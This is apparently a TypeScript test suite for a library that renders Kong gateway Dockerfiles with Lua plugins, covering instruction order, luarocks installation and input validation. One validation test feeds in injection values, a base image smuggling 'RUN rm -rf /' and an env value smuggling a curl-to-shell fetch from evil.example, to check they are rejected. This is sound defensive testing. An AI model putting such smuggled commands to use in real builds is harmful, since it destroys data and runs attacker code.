import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { DockerfileParser } from "dockerfile-ast";
import { validate } from "dockerfile-utils";
import { KongPluginsValidationError, PluginInstallMode, type GatewayImageSpec, type ResolvedPlugin } from "pulumi-kong-plugins";
import { renderBuildContext, resolveGatewayImage, resolvePlugin } from "pulumi-kong-plugins/render";
import { tempDir } from "../helpers/paths";
import { mustRun } from "../helpers/tools";
import { rateLimitExample } from "../../examples/quickstart/rate-limit-example";

const rateLimit: ResolvedPlugin = resolvePlugin(rateLimitExample());

async function dockerfileOf(spec: GatewayImageSpec): Promise<string> {
  return (await renderBuildContext(spec)).dockerfile;
}

function keywords(dockerfile: string): string[] {
  return DockerfileParser.parse(dockerfile).getInstructions().map((instruction) => instruction.getKeyword());
}

function issuePaths(run: () => unknown): string[] {
  try {
    run();
  } catch (error) {
    assert.ok(error instanceof KongPluginsValidationError, String(error));
    return error.issues.map((issue) => issue.path);
  }
  assert.fail("expected a validation error");
}

describe("renderDockerfile", () => {
  it("has Kong's documented instruction sequence and no dockerfile-utils diagnostics", async () => {
    const dockerfile = await dockerfileOf({ plugins: [rateLimit] });
    assert.deepEqual(validate(dockerfile), []);
    assert.deepEqual(keywords(dockerfile), ["FROM", "USER", "COPY", "ENV", "LABEL", "USER", "ENTRYPOINT", "EXPOSE", "STOPSIGNAL", "HEALTHCHECK", "CMD"]);
    const instructions = DockerfileParser.parse(dockerfile).getInstructions();
    const text = (index: number) => instructions[index]?.getArgumentsContent();
    assert.equal(text(0), "kong/kong-gateway:3.10");
    assert.equal(text(1), "root");
    assert.equal(text(2), "plugins/rate-limit-example/ /usr/local/share/lua/5.1/kong/plugins/rate-limit-example/");
    assert.equal(text(5), "kong");
    assert.equal(text(6), '["/entrypoint.sh"]');
    assert.equal(text(7), "8000 8443 8001 8444");
    assert.equal(text(8), "SIGQUIT");
    assert.equal(text(9), "CMD kong health");
    const healthcheck = instructions[9] as unknown as { getFlags(): { getName(): string; getValue(): string }[] };
    assert.deepEqual(healthcheck.getFlags().map((flag) => `${flag.getName()}=${flag.getValue()}`), ["interval=10s", "timeout=10s", "retries=10"]);
    assert.equal(text(10), '["kong", "docker-start"]');
  });

  it("accepts the open-source kong image, a custom Lua root and leaving bundled plugins out", async () => {
    const dockerfile = await dockerfileOf({ baseImage: "kong:3.9.1", plugins: [rateLimit], luaRoot: "/opt/kong-plugins/", includeBundled: false });
    assert.deepEqual(validate(dockerfile), []);
    assert.match(dockerfile, /^FROM kong:3\.9\.1$/m);
    assert.match(dockerfile, /^COPY plugins\/rate-limit-example\/ \/opt\/kong-plugins\/kong\/plugins\/rate-limit-example\/$/m);
    assert.match(dockerfile, /KONG_LUA_PACKAGE_PATH="\/opt\/kong-plugins\/\?\.lua;\/opt\/kong-plugins\/\?\/init\.lua;;"/);
    assert.match(dockerfile, /KONG_PLUGINS="rate-limit-example"/);
  });

  it("renders the luarocks mode as a COPY of the rocks and one RUN of luarocks install as root", async () => {
    const dockerfile = await dockerfileOf({ plugins: [rateLimit], installMode: PluginInstallMode.LuaRocks });
    assert.deepEqual(validate(dockerfile), []);
    assert.deepEqual(keywords(dockerfile).slice(0, 4), ["FROM", "USER", "COPY", "RUN"]);
  });

  it("rejects duplicate plugins, bundled names, managed variables, injection attempts and bad references, all at once", () => {
    const bundled = { ...rateLimit, name: "rate-limiting" };
    const paths = issuePaths(() =>
      resolveGatewayImage({
        baseImage: "kong/kong-gateway:3.10\nRUN rm -rf /",
        plugins: [rateLimit, rateLimit, bundled],
        luaRoot: "/opt/../etc",
        env: { KONG_PLUGINS: "bundled", "BAD NAME": "x", EVIL: "a\nRUN curl evil.example | sh" },
        labels: { "x\ny": "1", ok: "line\r\nbreak" },
      }),
    );
    assert.deepEqual(paths.sort(), [
      "baseImage",
      'env["BAD NAME"]',
      "env.EVIL",
      "env.KONG_PLUGINS",
      'labels["x\\ny"]',
      "labels.ok",
      "luaRoot",
      "plugins[1].name",
      "plugins[2].name",
    ].sort());
  });

  it("is identical for the same plugins given in any order", async () => {
    const other = resolvePlugin({ ...rateLimitExample(), name: "another-limit", source: { files: Object.fromEntries(rateLimit.files.map((f) => [f.path, f.content.replace(/rate-limit-example/g, "another-limit")])) } });
    const first = await renderBuildContext({ plugins: [rateLimit, other] });
    const second = await renderBuildContext({ plugins: [other, rateLimit] });
    assert.equal(first.dockerfile, second.dockerfile);
    assert.equal(first.digest, second.digest);
  });
});

describe("luarocks install mode", () => {
  it("ships a rock that installs with the exact command of its RUN line, with the real luarocks", async () => {
    const context = await renderBuildContext({ plugins: [rateLimit], installMode: PluginInstallMode.LuaRocks });
    const dir = tempDir();
    for (const file of context.files) {
      const path = join(dir, file.path);
      mustRun("mkdir", ["-p", join(path, "..")]);
      writeFileSync(path, file.content);
    }
    const run = DockerfileParser.parse(context.dockerfile).getInstructions().find((instruction) => instruction.getKeyword() === "RUN");
    assert.ok(run);
    const commands = (run.getArgumentsContent() ?? "").replace(/\\\n/g, " ").split("&&").map((command) => command.trim());
    assert.deepEqual(commands, ["luarocks install --deps-mode=none /tmp/kong-plugins-rocks/kong-plugin-rate-limit-example-1.0.0-1.src.rock", "rm -rf /tmp/kong-plugins-rocks"]);

    // The image's /tmp/kong-plugins-rocks is the context's rocks/ folder; the tree is a temporary one.
    const tree = join(dir, "tree");
    const config = join(dir, "luarocks-config.lua");
    writeFileSync(config, `rocks_trees = { ${JSON.stringify(tree)} }\n`);
    const [command, ...args] = (commands[0] ?? "").replace("/tmp/kong-plugins-rocks", join(dir, "rocks")).split(" ");
    mustRun(command as string, args, { env: { ...process.env, LUAROCKS_CONFIG: config } });
    const installed = join(tree, "share/lua/5.1/kong/plugins/rate-limit-example");
    for (const file of rateLimit.files) {
      assert.equal(mustRun("cat", [join(installed, file.path)]), file.content);
    }
  });
});
